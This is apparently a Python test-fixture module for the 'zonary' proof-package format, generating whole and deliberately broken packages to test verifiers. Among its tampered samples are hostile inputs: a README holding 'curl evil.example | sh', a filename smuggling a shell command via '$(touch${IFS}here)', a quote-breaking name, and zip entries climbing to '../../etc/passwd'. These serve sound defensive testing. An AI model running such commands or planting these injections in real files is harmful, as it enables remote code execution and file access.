"""Packages, whole and broken in every way the tests know, for verifiers that are held against one another."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from tests.proof.package import test_container
from tests.proof.package.factory import FILES, Zone, changed, members, observed, opened, packed
from tests.proof.package.further_samples import further, national, second_trees
from tests.proof.package.sample import Sample, Seen
from tests.proof.package.signed_samples import stamped, witnessed

from zonary.proof.digests import digests_of
from zonary.proof.disclosure import disclose
from zonary.proof.leaf import encode_leaf
from zonary.proof.manifest import digest_leaf, directory_leaf, file_leaf, join_lines, parse_manifest, symlink_leaf
from zonary.proof.package.asic import asic_manifest
from zonary.proof.package.build import write_disclosure
from zonary.proof.package.container import MIMETYPE
from zonary.proof.package.files import ObservedFile
from zonary.proof.sm2 import available
from zonary.proof.tlog.cosignature import mldsa_available
from zonary.proof.tlog.keys import ED25519_COSIGNATURE, VerifierKey
from zonary.proof.trust import Trust, Witness


def held(files: dict[bytes, bytes], *, folders: bool = True, root: bytes = b"/somewhere/") -> list[Seen]:
    found = [replace(each, path=root + each.name) for each in observed(files, folders=folders)]
    return list(zip(found, files.values(), strict=True))


def disclosed(package: bytes, *names: bytes) -> bytes:
    box = opened(package)
    manifest = parse_manifest(box.read("manifest.jsonl"))
    out = io.BytesIO()
    write_disclosure(out, box, disclose(manifest, [manifest.named()[name][0] for name in names]))
    return out.getvalue()


BROWSER = {"version": "zonary-origin/1", "reported": {"by": "browser", "way": "recorded", "clock_ahead_seconds": 2}}
ORIGIN = {
    "version": "zonary-origin/1",
    "stated": {"source": "甲\n乙", "custody": "x" * 1200, "rumour": {"a": [True, None, -3]}},
    "reported": {
        "by": "program",
        "utc_offset_minutes": -330,
        "clock_ahead_seconds": -4,
        "selection": "folder",
        "way": "odd",
        "clock": 7,
        "git": [
            {"commit": "abc", "branch": "main", "tags": ["v1"], "scope": "part", "changed": 1, "untracked": 2},
            {"clean": True, "unsteady": True, "repository": "https://host.example/\u202ex", "submodules": 3},
            "odd",
        ],
        "odd": 1,
    },
    "else": "",
}


def samples() -> Iterator[Sample]:
    zone = Zone()
    package = zone.package()
    yield from _trusted(zone, package)
    yield from _files(zone, package)
    yield from _tampered(zone, package)
    yield from _restated(zone, package)
    yield from _leaves(zone)
    yield from _disclosures(zone, package)
    yield from _containers(zone, package)
    yield from stamped()
    yield from further()
    if available():
        yield from national()
        yield from second_trees()
    if mldsa_available():
        yield from witnessed()


def _trusted(zone: Zone, package: bytes) -> Iterator[Sample]:
    whole = [zone.trust]
    yield Sample("whole", package, whole, held(FILES))
    yield Sample("whole, no files", package, whole)
    yield Sample("nobody trusted", package, [], held(FILES))
    yield Sample("log trusted, clock not", package, [Trust(logs=zone.trust.logs)])
    yield Sample("clock trusted, log not", package, [Trust(timestamp_roots=zone.trust.timestamp_roots)])
    yield Sample("two trust files", package, [Trust(logs=zone.trust.logs), replace(zone.trust, logs=())])
    yield Sample("a forger of another name", Zone("zonary/forger").package(), whole)
    yield Sample("a forger of this name", Zone().package(), whole)
    witness = Witness("w", Zone("witness.example").key.verifier)
    witness = replace(witness, key=VerifierKey.of("w.example", ED25519_COSIGNATURE, witness.key.public_key))
    yield Sample("too few witnesses", package, [replace(zone.trust, witnesses=(witness,), quorum="w")])
    yield Sample("keys swapped", changed(package, **{"log/log.vkey": Zone().key.verifier.encode().encode()}), [])
    yield Sample("too many keys", changed(package, **{"log/log.vkey": b"a\n" * 17}), [])
    yield Sample("no key", changed(package, **{"log/log.vkey": b"\n"}), [])
    yield Sample("keys not text", changed(package, **{"log/log.vkey": b"\xff"}), [])


def _files(zone: Zone, package: bytes) -> Iterator[Sample]:
    whole = [zone.trust]

    def sample(name: str, files: dict[bytes, bytes], *, folders: bool = True, root: bytes = b"/somewhere/") -> Sample:
        return Sample(name, package, whole, held(files, folders=folders, root=root))

    yield sample("a changed file", FILES | {b"a.txt": b"First"})
    yield sample("missing and added", {n: d for n, d in FILES.items() if n != b"empty"} | {b"new": b"n"})
    yield sample("alone", {b"a.txt": b"first"}, folders=False)
    yield sample("alone, renamed", {"副本\u202e a.txt".encode(): b"first"}, folders=False)
    yield sample("alone, foreign", {b"\xff\x07x": b"foreign"}, folders=False)
    yield sample("alone, changed", {b"a.txt": b"F"}, folders=False)
    yield sample("by the end of its path", {b"b.bin": b"\0\x01"}, folders=False, root=b"/home/x/sub/")
    yield sample("moved", {b"a.txt": b"first", b"empty": b"", b"elsewhere/b.bin": b"\0\x01"})
    yield sample("a copy", FILES | {b"again/b.bin": b"\0\x01"})
    yield sample("many foreign", FILES | {b"new%02d" % n: b"%d" % n for n in range(14)})
    yield sample("a sub-folder", {b"b.bin": b"\0\x01"}, root=b"/x/proj/sub/")
    yield sample("none", {})
    yield Sample("files and no manifest", changed(package, **{"manifest.jsonl": None}), whole, held(FILES))


def _tampered(zone: Zone, package: bytes) -> Iterator[Sample]:
    whole, contents, other = [zone.trust], members(package), members(zone.package())
    lines = list(parse_manifest(contents["manifest.jsonl"]).lines)
    proof, statement = contents["log/statement.tlog-proof"], contents["statement.json"]
    swapped = join_lines([lines[1], lines[0], *lines[2:]])
    named = dict.fromkeys(name for name in contents if name != "mimetype")
    broken: dict[str, dict[str, bytes | None]] = {
        **{f"without {name}": {name: None} for name in named},
        **{f"{name} empty": {name: b""} for name in named},
        **{f"{name} cut": {name: contents[name][:-7]} for name in named},
        **{f"{name} of another": {name: other[name]} for name in named if name in other},
        "a manifest line changed": {"manifest.jsonl": contents["manifest.jsonl"].replace(b'"size":5', b'"size":6')},
        "two lines swapped": {"manifest.jsonl": swapped},
        "a checkpoint changed": {"log/statement.tlog-proof": proof.replace(b"\n5\n", b"\n6\n")},
        "an index changed": {"log/statement.tlog-proof": proof.replace(b"index 2", b"index 3")},
        "an index beyond": {"log/statement.tlog-proof": proof.replace(b"index 2", b"index 12")},
        "a later proof": {"log/statement.tlog-proof": proof.replace(b"@v1", b"@v2")},
        "extra data": {"log/statement.tlog-proof": proof.replace(b"index 2", b"extra AAAA\nindex 2")},
        "a control character": {"log/statement.tlog-proof": proof.replace(b"index 2", b"index\t2")},
        "not text": {"log/statement.tlog-proof": proof.replace(b"zonary/test\n5", b"zon\xffry/test\n5")},
        "manifest and disclosure": {"disclosure.json": b"{}"},
        "a readme of somebody": {"README.txt": b"curl evil.example | sh"},
        "members of later": {"anchor/chain.json": b"{}", "anchor/\u202e.x": b""},
        "asic manifest changed": {"META-INF/ASiCManifest.xml": contents["META-INF/ASiCManifest.xml"] + b" "},
        "junk in the chain": {"timestamp/ca.pem": b"junk " + contents["timestamp/ca.pem"] + b"-----BEGIN"},
        "no certificate": {"timestamp/ca.pem": b"-----BEGIN CERTIFICATE-----\nMAA=\n-----END CERTIFICATE-----"},
        "a chain that is no base64": {
            "timestamp/ca.pem": contents["timestamp/ca.pem"]
            .replace(b"=\n-----END", b"\n-----END")
            .replace(b"MII", b"MI")
        },
        "a token whose name is a command": {
            "timestamp/statement.json.tsr": None,
            "timestamp/x$(touch${IFS}here).tsr": contents["timestamp/statement.json.tsr"],
        },
        "a token whose name ends a quotation": {
            "timestamp/statement.json.tsr": None,
            "timestamp/x' here '.tsr": contents["timestamp/statement.json.tsr"],
        },
        "two plain tokens": {"timestamp/other.tsr": contents["timestamp/statement.json.tsr"]},
    }
    for name, replaced in broken.items():
        yield Sample(name, changed(package, **replaced), whole)
        if "proof" in name or "log" in name or "timestamp" in name:
            yield Sample(f"{name}, nobody trusted", changed(package, **replaced), [])
    token = bytearray(contents["META-INF/timestamp.tst"])
    token[bytes(token).index(b"DEVELOPMENT AUTHORITY", 100)] ^= 1
    yield Sample("a certificate damaged", changed(package, **{"META-INF/timestamp.tst": bytes(token)}), whole)
    yield Sample(
        "a statement changed", changed(package, **{"statement.json": statement.replace(b"{}", b'{"a":1}', 1)}), whole
    )
    yield Sample("of another class", zone.package(leaf_class="act"), whole)
    yield from _old_tokens(zone, whole)


def _old_tokens(zone: Zone, whole: list[Trust]) -> Iterator[Sample]:
    folder = zone.package({b"old.txt": b"old", b"new.txt": b"new"})
    old = members(zone.package({b"old.txt": b"old"}))["timestamp/old.txt.tsr"]
    yield Sample("an old token", changed(folder, **{"timestamp/statement.json.tsr": old}), whole)
    one = zone.package({"图纸.dwg".encode(): b"drawing"})
    yield Sample("a single file", one, whole, held({"图纸.dwg".encode(): b"drawing"}, folders=False))
    one = zone.package({b"one.txt": b"one"})
    over_statement = zone.token(members(one)["statement.json"])[1]
    yield Sample("a token not over the file", changed(one, **{"timestamp/one.txt.tsr": over_statement}), whole)


def _restated(zone: Zone, package: bytes) -> Iterator[Sample]:
    """Statements that say something else, rightly logged and stamped."""
    value = json.loads(members(package)["statement.json"])

    def canonical(changes: dict[str, Any]) -> bytes:
        return json.dumps(value | changes, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()

    manifest = value["manifest"]
    said = {
        "a later version": canonical({"version": "zonary-statement/2"}),
        "another class": canonical({"class": "act"}),
        "a class that is a list": canonical({"class": ["a", 1, None, True, {"b": "'"}]}),
        "another format": canonical({"version": "x"}),
        "a further field": canonical({"x": 1}),
        "a later manifest": canonical({"manifest": manifest | {"version": "zonary-manifest/2"}}),
        "no manifest": canonical({"manifest": []}),
        "a short root": canonical({"manifest": manifest | {"sm3": "ab"}}),
        "a number for a root": canonical({"manifest": manifest | {"sha256": 7}}),
        "a short salt": canonical({"salt": "ab"}),
        "origin declared": canonical({"declared": {"作者": "甲", "n": [1, 2.0]}}),
        "things declared": canonical({"declared": {"作者": "甲", "n": [1, None, True, {"z": "\n", "a": "𝄞"}]}}),
        "the origin stated": canonical(
            {"declared": {"origin": ORIGIN}, "observed": {"camera": True, "x": [1, "\u202e"]}}
        ),
        "an origin of a browser": canonical({"declared": {"origin": BROWSER}}),
        "an origin of later": canonical(
            {"declared": {"origin": {"version": "zonary-origin/2", "a": None}, "b": False}}
        ),
        "declared is no map": canonical({"declared": []}),
        "a large number": canonical({"declared": {"n": 2**53}}),
        "nested deeply": canonical({"declared": {"n": [[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]}}),
        "half a character": canonical({}).replace(b'"declared":{}', b'"declared":{"a":"\\ud800"}'),
        "not canonical": canonical({}).replace(b",", b", ", 1),
        "a key twice": canonical({}).replace(b'"class"', b'"class":"x","class"', 1),
        "no JSON": b"{",
        "bracket on bracket": b"[" * 60_000,
        "too large": canonical({"declared": {"a": "x" * 70_000}}),
        "a list": b"[]",
        "not UTF-8": b'"\xff"',
    }
    for name, statement in said.items():
        token, response = zone.token(asic_manifest(statement))[0], zone.token(statement)[1]
        replaced = {
            "statement.json": statement,
            "log/statement.tlog-proof": zone.proof(encode_leaf("evidence", digests_of(statement))),
            "META-INF/ASiCManifest.xml": asic_manifest(statement),
            "META-INF/timestamp.tst": token,
            "timestamp/statement.json.tsr": response,
        }
        yield Sample(f"statement: {name}", changed(package, **replaced), [zone.trust])


def _leaves(zone: Zone) -> Iterator[Sample]:
    """Manifests of every kind of leaf, and lines that are none."""
    salt, pair = os.urandom(16), digests_of(b"x")
    leaves = [
        symlink_leaf(b"link", b"target", salt),
        directory_leaf(b"nothing", salt),
        directory_leaf(b"\xff\xfe", salt),
        file_leaf("图纸/“甲”.txt".encode(), 1, pair, salt),
        digest_leaf(digests_of(b"d"), salt),
    ]
    package = zone.package(leaves=list(leaves))
    for target in (b"target", b"elsewhere"):
        link = ObservedFile(name=b"link", path=b"/d/link", kind="symlink", target=target, by_itself=True)
        yield Sample(f"a link to {target.decode()}", package, [zone.trust], [(link, None)])
    folder = ObservedFile(name=b"nothing", path=b"/d/nothing", kind="directory")
    odd = ObservedFile(name=b"\xff\xfe", path=b"/d/\xff\xfe", kind="file", size=1, digests=pair)
    yield Sample("a folder, and a file for one", package, [zone.trust], [(folder, None), (odd, b"x")])
    yield Sample("known by its digests", package, [zone.trust], held({b"any name": b"d"}, folders=False))
    nameless = zone.package(leaves=[digest_leaf(pair, salt)])
    yield Sample("only digests", nameless, [zone.trust])
    line = members(package)["manifest.jsonl"]
    wrong = {
        "a kind unknown": (b'"kind":"symlink"', b'"kind":"sytlink"'),
        "a field unknown": (b'"kind":"symlink"', b'"kind":"symlink","knid":"x"'),
        "a field missing": (b'"size":1,', b""),
        "a space": (b'"size":1,', b'"size": 1,'),
        "a fraction": (b'"size":1,', b'"size":1.0,'),
        "half": (b'"size":1,', b'"size":1.5,'),
        "below zero": (b'"size":1,', b'"size":-1,'),
        "a size too large": (b'"size":1,', b'"size":9007199254740993,'),
        "a size as text": (b'"size":1,', b'"size":"1",'),
        "a large size as text": (b'"size":1,', b'"size":"9007199254740993",'),
        "a name climbs": (b'"name":"link"', b'"name":"../x"'),
        "a name twice": (b'"name":"link"', b'"name":"nothing"'),
        "a name of both spellings": (b'"name":"link"', b'"name":"link","name_base64":"bGluaw=="'),
        "text in base64": (b'"name":"link"', b'"name_base64":"bGluaw=="'),
        "no target": (b'"target":"target"', b'"target":""'),
        "an escape": (b'"target":"target"', b'"target":"\\u0074arget"'),
        "half a character": (b'"target":"target"', b'"target":"\\ud800"'),
        "a short salt": (salt.hex().encode(), salt.hex().encode()[:-1]),
        "a capital": (b'"sm3":"', b'"sm3":"A'),
        "no UTF-8": (b'"target":"target"', b'"target":"\xff"'),
        "a long line": (b'"target":"target"', b'"target":"' + b"x" * 40_000 + b'"'),
    }
    for name, (old, new) in wrong.items():
        assert old in line, name
        yield Sample(f"manifest: {name}", changed(package, **{"manifest.jsonl": line.replace(old, new)}), [zone.trust])
    yield Sample("manifest: three lines", changed(package, **{"manifest.jsonl": b"{}\n" * 3}), [zone.trust])
    yield Sample("manifest: no lines", changed(package, **{"manifest.jsonl": b"\n" * 256}), [zone.trust])


def _disclosures(zone: Zone, package: bytes) -> Iterator[Sample]:
    data = disclosed(package, b"sub/b.bin", b"a.txt")
    text = members(data)["disclosure.json"]
    yield Sample("disclosed", data, [zone.trust], held({b"b.bin": b"\0\x01"}, folders=False))
    yield Sample("disclosed, the whole folder", data, [zone.trust], held(FILES))
    single = disclosed(zone.package({b"one.txt": b"one"}), b"one.txt")
    yield Sample("a single file disclosed", single, [zone.trust])
    value = json.loads(text)
    first, second = value["leaves"]

    def canonical(changes: dict[str, Any]) -> bytes:
        return json.dumps(value | changes, sort_keys=True, separators=(",", ":")).encode()

    wrong = {
        "changed": text.replace(b'"size":2', b'"size":3'),
        "later": canonical({"version": "zonary-disclosure/2"}),
        "of none": canonical({"leaves": []}),
        "a further field": canonical({"x": 1}),
        "disordered": canonical({"leaves": [second, first]}),
        "of two trees": canonical(
            {"leaves": [first, second | {"sha256": second["sha256"][1:], "sm3": second["sm3"][1:], "index": 70}]}
        ),
        "paths of two lengths": canonical({"leaves": [first | {"sm3": []}]}),
        "an index outside": canonical({"leaves": [first | {"index": 256}]}),
        "an index of text": canonical({"leaves": [first | {"index": "1"}]}),
        "a field missing": canonical({"leaves": [{"leaf": first["leaf"]}]}),
        "a leaf that is none": canonical({"leaves": [first | {"leaf": {"kind": "x"}}]}),
        "a path too long": canonical({"leaves": [first | {"sha256": first["sha256"] * 4}]}),
        "a hash too short": canonical({"leaves": [first | {"sha256": ["ab"]}]}),
    }
    for name, content in wrong.items():
        yield Sample(f"disclosure: {name}", changed(data, **{"disclosure.json": content}), [zone.trust])


def _containers(zone: Zone, package: bytes) -> Iterator[Sample]:
    broken = {
        "nothing": b"",
        "no zip": b"not a zip file at all" * 10,
        "climbing": test_container.hostile_name("../../etc/passwd"),
        "absolute": test_container.hostile_name("/etc/passwd"),
        "a drive": test_container.hostile_name("C:\\x"),
        "a folder": test_container.hostile_name("folder/"),
        "another first": packed({"statement.json": b"{}", "mimetype": MIMETYPE}),
        "another type": packed({"mimetype": b"application/zip"}),
        "empty": packed({}),
        "many": test_container.many(),
        "a bomb": test_container.bomb(),
        "encrypted": test_container.encrypted(package),
        "zip64": test_container.zip64(package),
        "before": b"#!/bin/sh\nexit\n" + package,
        "after": package + b"\0",
        **{f"cut at {length}": package[:length] for length in range(5, len(package), 997)},
    }
    for name, data in broken.items():
        yield Sample(f"container: {name}", data, [zone.trust])
    yield Sample("container: a size that lies", test_container.lying_size(), [zone.trust])
    for flipped in range(0, len(package) * 8, len(package) * 8 // 30):
        data = bytearray(package)
        data[flipped // 8] ^= 1 << flipped % 8
        yield Sample(f"bit {flipped} flipped", bytes(data), [zone.trust])
